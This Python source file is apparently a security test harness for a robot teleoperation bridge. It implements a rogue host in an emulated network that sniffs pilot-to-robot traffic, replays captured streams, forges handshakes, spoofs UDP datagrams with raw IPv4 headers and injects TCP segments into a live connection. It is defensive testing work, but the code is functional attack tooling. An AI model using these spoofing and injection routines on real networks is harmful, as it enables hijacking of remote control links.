"""A rogue host on the DRC radio: it listens to the two bridges, then attacks the robot's.

Theory of operation
-------------------
Run as root inside the rogue's network namespace
(:meth:`netem.emulation.EmulatedLink.add_intruder`), whose interface hears
every frame the robot hears.  The attacker knows the bridge's protocol (it is
open source: this program builds its frames with :mod:`bridge.wire.frames`), not the
key.  Verbs, one process each::

    capture FILE   sniff (AF_PACKET) until the pilot->robot TCP stream holds the
                   handshake and a few sealed command frames, and a few
                   pilot->robot UDP datagrams have passed; save them as JSON
    tcp FILE       three connections to the robot's TCP port from our own
                   address: a forged HELLO+AUTH, garbage, the captured stream
                   replayed from its first byte
    udp FILE       datagrams to the robot's UDP port: from our own address, then
                   with the pilot's address spoofed (raw socket, IP_HDRINCL,
                   hand-built IPv4 and UDP headers): forged commands, captured
                   datagrams with one byte flipped, captured datagrams replayed
    inject FILE    wait for a pilot->robot segment of the live connection and
                   inject, with the pilot's address and the next sequence number,
                   a captured sealed command frame (TCP injection); report
                   whether the robot then closed that connection

``tcp`` may also run on the pilot's host (a rogue process there, or a rogue
that took the pilot's address): the robot's address check then lets it
through to the handshake.  Every verb prints one line per thing it did.

The packet code is pure (bytes in, packets out, and back); the sockets are a
thin layer around it.  The rogue hears the pilot's frames only after the
radio's loss, so what it captured reached the robot, and a replay of it is a
replay (not a first delivery).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import struct
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Tuple

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from bridge.wire import compact, datagrams, frames  # noqa: E402
from bridge.wire.frames import Auth, DataFrame, Hello  # noqa: E402
from bridge.wire.link import TAG_SIZE  # noqa: E402
from bridge.wire.varint import get_varint, varint  # noqa: E402

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
TCP_FIN, TCP_SYN, TCP_RST, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
#: A command no pilot sends: if the robot ever executed it, the log would say so.
ROGUE_COMMAND = compact.encode([["rogue", 666], 666])


# -- packets, pure -----------------------------------------------------------------------


@dataclass(frozen=True)
class Packet:
    """One IPv4 TCP segment or UDP datagram as heard on the radio."""

    proto: str            # "tcp" or "udp"
    src: str
    dst: str
    sport: int
    dport: int
    payload: bytes
    seq: int = 0
    ack: int = 0
    flags: int = 0
    window: int = 0
    options: bytes = b""

    @property
    def seq_end(self) -> int:
        """The sequence number after this segment (SYN and FIN count one)."""
        return (self.seq + len(self.payload) + bool(self.flags & TCP_SYN)
                + bool(self.flags & TCP_FIN)) & 0xFFFFFFFF


def parse_frame(frame: bytes) -> Optional[Packet]:
    """An Ethernet frame's TCP or UDP packet; None for anything else (ARP, fragments...)."""
    if len(frame) < 34 or struct.unpack_from("!H", frame, 12)[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    header = (ip[0] & 0x0F) * 4
    total, fragment, proto = struct.unpack_from("!H", ip, 2)[0], \
        struct.unpack_from("!H", ip, 6)[0], ip[9]
    if ip[0] >> 4 != 4 or fragment & 0x3FFF or total > len(ip) or total < header:
        return None
    src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
    body = ip[header:total]
    if proto == socket.IPPROTO_UDP and len(body) >= 8:
        sport, dport = struct.unpack_from("!HH", body)
        return Packet("udp", src, dst, sport, dport, bytes(body[8:]))
    if proto == socket.IPPROTO_TCP and len(body) >= 20:
        sport, dport, seq, ack, offset, flags, window = struct.unpack_from("!HHIIBBH", body)
        start = (offset >> 4) * 4
        return Packet("tcp", src, dst, sport, dport, bytes(body[start:]), seq, ack, flags,
                      window, bytes(body[20:start]))
    return None


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _ip(src: str, dst: str, proto: int, transport: bytes) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(transport),
                         random.randrange(1, 0xFFFF), 0x4000, 64, proto, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + transport


def _pseudo(src: str, dst: str, proto: int, length: int) -> bytes:
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, length)


def udp_packet(src: str, sport: int, dst: str, dport: int, payload: bytes) -> bytes:
    """A whole IPv4+UDP packet for a raw IP_HDRINCL socket, any source address."""
    head = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    total = checksum(_pseudo(src, dst, socket.IPPROTO_UDP, len(head) + len(payload))
                     + head + payload) or 0xFFFF
    return _ip(src, dst, socket.IPPROTO_UDP, head[:6] + struct.pack("!H", total) + payload)


def tcp_packet(src: str, sport: int, dst: str, dport: int, seq: int, ack: int, flags: int,
               window: int, options: bytes, payload: bytes) -> bytes:
    """A whole IPv4+TCP segment for a raw IP_HDRINCL socket (``options`` padded to 32 bits)."""
    options += b"\x01" * (-len(options) % 4)
    offset = (20 + len(options)) // 4 << 4
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, offset, flags, window, 0, 0) \
        + options
    total = checksum(_pseudo(src, dst, socket.IPPROTO_TCP, len(head) + len(payload))
                     + head + payload)
    return _ip(src, dst, socket.IPPROTO_TCP, head[:16] + struct.pack("!H", total) + head[18:]
               + payload)


def timestamp_option(options: bytes) -> bytes:
    """Only the timestamp option of a segment's options (so PAWS accepts ours), or nothing."""
    pos = 0
    while pos < len(options):
        kind = options[pos]
        if kind == 0:
            break
        if kind == 1:
            pos += 1
            continue
        if pos + 1 >= len(options) or options[pos + 1] < 2:
            break
        length = options[pos + 1]
        if kind == 8 and length == 10:
            return b"\x01\x01" + options[pos:pos + 10]
        pos += length
    return b""


# -- the bridge's stream and datagrams, as an eavesdropper reads them ------------------------


@dataclass(frozen=True)
class Record:
    """One frame of a captured pilot->robot stream, its bytes as they were sent."""

    wire: bytes
    frame: frames.Frame
    sealed: bool


def split_stream(stream: bytes) -> List[Record]:
    """The pilot's frames in a captured stream: HELLO and AUTH plain, the rest tagged."""
    splitter = frames.FrameSplitter()
    records: List[Record] = []
    consumed = 0
    splitter.feed(stream)
    while True:
        sealed = any(isinstance(r.frame, Auth) for r in records)
        record = splitter.next_record(TAG_SIZE if sealed else 0)
        if record is None:
            return records
        size = len(stream) - consumed - splitter.pending
        records.append(Record(stream[consumed:consumed + size], frames.parse_body(record[0]),
                              sealed))
        consumed += size


def is_command_frame(record: Record) -> bool:
    """A sealed data frame holding reliable entries (commands, switches)."""
    return record.sealed and isinstance(record.frame, DataFrame) and \
        record.frame.seq is not None and bool(record.frame.entries)


def opened(datagram: bytes) -> Tuple[int, datagrams.Datagram]:
    """A sealed datagram's counter and the datagram inside (tag not checked: no key)."""
    counter, pos = get_varint(datagram, 0, "counter")
    return counter, datagrams.decode(datagram[pos:len(datagram) - TAG_SIZE])


@dataclass
class Capture:
    """What the rogue heard: the pilot's TCP stream from its first byte, its datagrams."""

    stream: bytes
    udp: List[Tuple[int, bytes]]   # (source port, sealed datagram)

    def save(self, path: Path) -> None:
        path.write_text(json.dumps({"stream": self.stream.hex(), "udp": [
            [port, data.hex()] for port, data in self.udp]}))

    @classmethod
    def load(cls, path: Path) -> "Capture":
        saved = json.loads(path.read_text())
        return cls(bytes.fromhex(saved["stream"]),
                   [(port, bytes.fromhex(data)) for port, data in saved["udp"]])

    @property
    def records(self) -> List[Record]:
        return split_stream(self.stream)

    def hello(self) -> Hello:
        first = self.records[0].frame
        assert isinstance(first, Hello), first
        return first

    def command_frame(self) -> bytes:
        return next(r.wire for r in self.records if is_command_frame(r))


class StreamAssembler:
    """One TCP direction's payload, in order from the SYN, out of what the radio let through."""

    def __init__(self, syn: Packet) -> None:
        self.start = syn.seq_end
        self._pieces: Dict[int, bytes] = {}
        self.stream = b""

    def add(self, segment: Packet) -> None:
        if segment.payload:
            self._pieces[(segment.seq - self.start) & 0xFFFFFFFF] = segment.payload
        while True:
            grown = False
            for offset, payload in list(self._pieces.items()):
                if offset <= len(self.stream) < offset + len(payload):
                    self.stream += payload[len(self.stream) - offset:]
                    grown = True
                if offset + len(payload) <= len(self.stream):
                    del self._pieces[offset]
            if not grown:
                return


# -- sockets -------------------------------------------------------------------------------


def sniffer(device: str) -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((device, 0))
    sock.settimeout(0.2)
    return sock


def heard(sock: socket.socket, deadline: float) -> Iterator[Packet]:
    """Packets others sent on the radio until ``deadline`` (our own are left out)."""
    while time.monotonic() < deadline:
        try:
            frame, address = sock.recvfrom(65535)
        except socket.timeout:
            continue
        if address[2] == PACKET_OUTGOING:
            continue
        packet = parse_frame(frame)
        if packet is not None:
            yield packet


def raw_sender() -> socket.socket:
    """A socket that sends whole IPv4 packets with any source address (needs root)."""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def say(text: str) -> None:
    print(text, flush=True)


# -- verbs -----------------------------------------------------------------------------------


def capture(options: argparse.Namespace) -> int:
    """Sniff until the pilot's stream and datagrams are enough to attack with, then save them."""
    sock = sniffer(options.device)
    say(f"sniffing on {options.device}")
    streams: Dict[int, StreamAssembler] = {}
    found: List[Tuple[int, bytes]] = []
    deadline = time.monotonic() + options.timeout
    commands: Dict[int, int] = {}   # source port -> command frames in its stream so far
    for packet in heard(sock, deadline):
        if packet.src != options.pilot or packet.dst != options.robot:
            continue
        if packet.proto == "udp" and packet.dport == options.udp_port:
            found.append((packet.sport, packet.payload))
        elif packet.proto == "tcp" and packet.dport == options.tcp_port:
            if packet.flags & TCP_SYN:
                streams[packet.sport] = StreamAssembler(packet)
            elif packet.sport in streams:
                assembler = streams[packet.sport]
                assembler.add(packet)
                commands[packet.sport] = sum(map(is_command_frame,
                                                 split_stream(assembler.stream)))
        port = max(commands, key=commands.get, default=None)
        if port is not None and commands[port] >= options.frames and \
                len(found) >= options.datagrams:
            stream = streams[port].stream
            Capture(stream, found).save(Path(options.file))
            say(f"captured {len(stream)} bytes of the pilot's stream from port {port} "
                f"({commands[port]} command frames) and {len(found)} datagrams")
            return 0
    say(f"capture incomplete after {options.timeout:g} s: streams "
        f"{ {p: len(a.stream) for p, a in streams.items()} }, {len(found)} datagrams")
    return 1


def _converse(robot: Tuple[str, int], data: bytes, what: str) -> None:
    """Send ``data`` on a new connection and read until the robot hangs up; say what happened."""
    with socket.create_connection(robot, timeout=10) as sock:
        try:
            sock.sendall(data)
            sent = f"sent {len(data)} bytes"
        except OSError as exc:
            sent = f"sending failed ({exc.strerror or exc})"
        received = 0
        try:
            while True:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                received += len(chunk)
            ending = "the robot closed it"
        except socket.timeout:
            ending = "the robot kept it open for 10 s"
        except OSError as exc:
            ending = f"the robot reset it ({exc.strerror or exc})"
    say(f"tcp {what}: {sent}, got {received} bytes, {ending}")


def tcp_attacks(options: argparse.Namespace) -> int:
    """A forged handshake, garbage, and the captured stream replayed, each on its own connection."""
    loot = Capture.load(Path(options.file))
    robot = (options.robot, options.tcp_port)
    real = loot.hello()
    forged = frames.wrap(frames.hello_body(Hello("pilot", real.fingerprint,
                                                 random.getrandbits(64), os.urandom(16)))) + \
        frames.wrap(frames.auth_body(Auth(os.urandom(frames.PROOF_SIZE))))
    _converse(robot, forged, "forged HELLO+AUTH (a fresh nonce, a proof made up)")
    # A length no handshake frame may have, then noise.
    _converse(robot, varint(1 << 20) + os.urandom(200), "garbage")
    _converse(robot, loot.stream, f"replayed stream ({len(loot.records)} frames, the "
                                  f"pilot's HELLO, AUTH and commands)")
    return 0


def udp_attacks(options: argparse.Namespace) -> int:
    """Datagrams from our address, then forged, tampered and replayed ones as the pilot."""
    loot = Capture.load(Path(options.file))
    robot = (options.robot, options.udp_port)
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _, data in loot.udp[:options.stranger]:
        plain.sendto(data, robot)
    say(f"udp from our own address: {options.stranger} captured datagrams")
    raw = raw_sender()

    def as_pilot(sport: int, payload: bytes) -> None:
        raw.sendto(udp_packet(options.pilot, sport, options.robot, options.udp_port, payload),
                   (options.robot, 0))

    port, first = loot.udp[0]
    counter, inner = opened(first)
    half = options.forged // 2
    for number in range(half):  # forged commands, with counters the receiver has not seen
        command = datagrams.encode(datagrams.Datagram(
            options.module_id, 1, number, 1, 1, 0, ROGUE_COMMAND))
        as_pilot(port, varint(counter + 100000 + number) + command + os.urandom(TAG_SIZE))
    for number in range(options.forged - half):  # real datagrams, one body byte flipped
        _, data = loot.udp[number % len(loot.udp)]
        tampered = bytearray(data)
        tampered[-TAG_SIZE - 1] ^= 0x01
        as_pilot(port, bytes(tampered))
    say(f"udp as the pilot: {half} forged commands (id {options.module_id}, kind 1, "
        f"random tags), {options.forged - half} captured datagrams with a byte flipped")
    replayed = loot.udp[:options.replays]
    for sport, data in replayed:
        as_pilot(sport, data)
    say(f"udp as the pilot: {len(replayed)} captured datagrams replayed (flow "
        f"{inner.id}/{inner.kind}, counters {opened(replayed[0][1])[0]}.."
        f"{opened(replayed[-1][1])[0]})")
    return 0


def inject(options: argparse.Namespace) -> int:
    """TCP injection of a captured command frame into the live pilot->robot connection."""
    payload = Capture.load(Path(options.file)).command_frame()
    sock, raw = sniffer(options.device), raw_sender()
    say(f"waiting for the pilot's live connection on {options.device}")
    for attempt in range(1, options.attempts + 1):
        last = _next_pilot_segment(sock, options, time.monotonic() + 30)
        if last is None:
            say("no pilot->robot segment heard in 30 s")
            return 1
        raw.sendto(tcp_packet(options.pilot, last.sport, options.robot, options.tcp_port,
                              last.seq_end, last.ack, TCP_PSH | TCP_ACK, last.window,
                              timestamp_option(last.options), payload), (options.robot, 0))
        answer = _robot_reaction(sock, options, last.sport, time.monotonic() + 4)
        say(f"inject {attempt}: {len(payload)} bytes (a captured command frame) at seq "
            f"{last.seq_end} on {options.pilot}:{last.sport} -> {options.robot}:"
            f"{options.tcp_port}: {answer or 'no reaction from the robot'}")
        if answer:
            return 0
    return 1


def _next_pilot_segment(sock: socket.socket, options: argparse.Namespace,
                        deadline: float) -> Optional[Packet]:
    """The next pilot->robot segment carrying data: right after it the stream is quiet."""
    for packet in heard(sock, deadline):
        if packet.proto == "tcp" and packet.src == options.pilot and \
                packet.dst == options.robot and packet.dport == options.tcp_port and \
                packet.payload and not packet.flags & (TCP_SYN | TCP_FIN | TCP_RST):
            return packet
    return None


def _robot_reaction(sock: socket.socket, options: argparse.Namespace, sport: int,
                    deadline: float) -> str:
    """'the robot closed the connection (FIN)' or '... reset ...' when it did, else ''."""
    for packet in heard(sock, deadline):
        if packet.proto == "tcp" and packet.src == options.robot and \
                packet.sport == options.tcp_port and packet.dport == sport:
            if packet.flags & TCP_RST:
                return "the robot reset the connection (RST)"
            if packet.flags & TCP_FIN:
                return "the robot closed the connection (FIN)"
    return ""


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("verb", choices=("capture", "tcp", "udp", "inject"))
    parser.add_argument("file", help="the capture (written by capture, read by the others)")
    parser.add_argument("--robot", required=True, help="the robot's address")
    parser.add_argument("--pilot", required=True, help="the pilot's address")
    parser.add_argument("--tcp-port", type=int, required=True, help="the robot bridge's")
    parser.add_argument("--udp-port", type=int, required=True, help="the robot bridge's")
    parser.add_argument("--device", help="the rogue's interface (capture, inject)")
    parser.add_argument("--frames", type=int, default=3, help="command frames to capture")
    parser.add_argument("--datagrams", type=int, default=20, help="datagrams to capture")
    parser.add_argument("--timeout", type=float, default=60.0, help="capture: give up after")
    parser.add_argument("--stranger", type=int, default=5, help="udp: from our own address")
    parser.add_argument("--forged", type=int, default=10, help="udp: forged as the pilot")
    parser.add_argument("--replays", type=int, default=10, help="udp: replayed as the pilot")
    parser.add_argument("--module-id", type=int, default=3, help="udp: forged commands' id")
    parser.add_argument("--attempts", type=int, default=3, help="inject: tries")
    options = parser.parse_args(argv)
    verbs = {"capture": capture, "tcp": tcp_attacks, "udp": udp_attacks, "inject": inject}
    return verbs[options.verb](options)


if __name__ == "__main__":
    sys.exit(main())
